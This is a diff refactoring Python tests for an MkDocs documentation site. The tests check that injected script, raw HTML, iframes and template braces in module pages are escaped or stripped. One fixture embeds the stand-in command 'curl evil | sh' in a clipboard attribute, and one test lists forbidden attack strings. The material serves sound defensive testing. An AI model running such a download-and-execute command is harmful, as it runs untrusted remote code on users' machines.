@@ -16,6 +16,13 @@ MUTUALITY = ROOT / "modules" / "mutuality.md"
 MINIMAL = (FIXTURES / "minimal.md").read_text(encoding="utf-8")
 
 
+def strict_build_of(tmp_path: Path, module_text: str) -> Build:
+    """The reference site's config and docs with this one module, built with --strict."""
+    build = mkdocs_build(copy_site(tmp_path, modules={"listening.md": module_text}), "--strict")
+    assert build.returncode == 0, build.output
+    return build
+
+
 def text_of(page: str) -> str:
     return html.unescape(re.sub(r"<[^>]+>", " ", page))
 
@@ -100,9 +107,7 @@ def test_built_html_references_no_other_host(reference_build: Build) -> None:
 
 def test_module_prose_with_escaped_braces_is_not_rendered_by_macros(tmp_path: Path) -> None:
     body = "\nWrite {% raw %}{{ 7*7 }}{% endraw %} to show braces.\n"
-    root = copy_site(tmp_path, modules={"listening.md": MINIMAL + body})
-    build = mkdocs_build(root, "--strict")
-    assert build.returncode == 0, build.output
+    build = strict_build_of(tmp_path, MINIMAL + body)
     page = build.page("modules/listening/index.html")
     assert "Write {{ 7*7 }} to show braces." in page
     assert "Write 49" not in page
@@ -131,9 +136,7 @@ def test_script_in_front_matter_comes_out_escaped_everywhere(tmp_path: Path) -> 
         .replace("title: Listening in pairs", f'title: "{EVIL}"')
         .replace("  - Pair up.", f'  - "{EVIL}"')
     )
-    root = copy_site(tmp_path, modules={"listening.md": text})
-    build = mkdocs_build(root, "--strict")
-    assert build.returncode == 0, build.output
+    build = strict_build_of(tmp_path, text)
     for path in build.site.rglob("*"):
         if path.is_file() and path.suffix in {".html", ".json", ".xml"}:
             content = path.read_text(encoding="utf-8")
@@ -205,9 +208,7 @@ def test_raw_html_in_module_prose_cannot_run_or_fetch(tmp_path: Path) -> None:
         "| Kept | Table |\n|:-----|------:|\n| a | b |\n\n"
         "<details><summary>Kept</summary>Still here.</details>\n"
     )
-    root = copy_site(tmp_path, modules={"listening.md": MINIMAL + prose})
-    build = mkdocs_build(root, "--strict")
-    assert build.returncode == 0, build.output
+    build = strict_build_of(tmp_path, MINIMAL + prose)
     page = build.page("modules/listening/index.html")
     article = page[page.index('<article class="md-content__inner') :]
     for gone in ("alert(", "<iframe", "javascript:", "tracker.example", "onmouseover"):
@@ -235,9 +236,7 @@ def test_prose_cannot_borrow_the_themes_scripts_or_layout(tmp_path: Path) -> Non
         '<div class="md-consent__inner">Sign in again</div>\n\n'
         '<span data-clipboard-text="curl evil | sh">Copy the number</span>\n'
     )
-    root = copy_site(tmp_path, modules={"listening.md": MINIMAL + prose})
-    build = mkdocs_build(root, "--strict")
-    assert build.returncode == 0, build.output
+    build = strict_build_of(tmp_path, MINIMAL + prose)
     article = build.page("modules/listening/index.html").split('<article class="md-content')[1]
     assert "<pre>graph LR; A--&gt;B</pre>" in article
     assert "<div>Sign in again</div>" in article
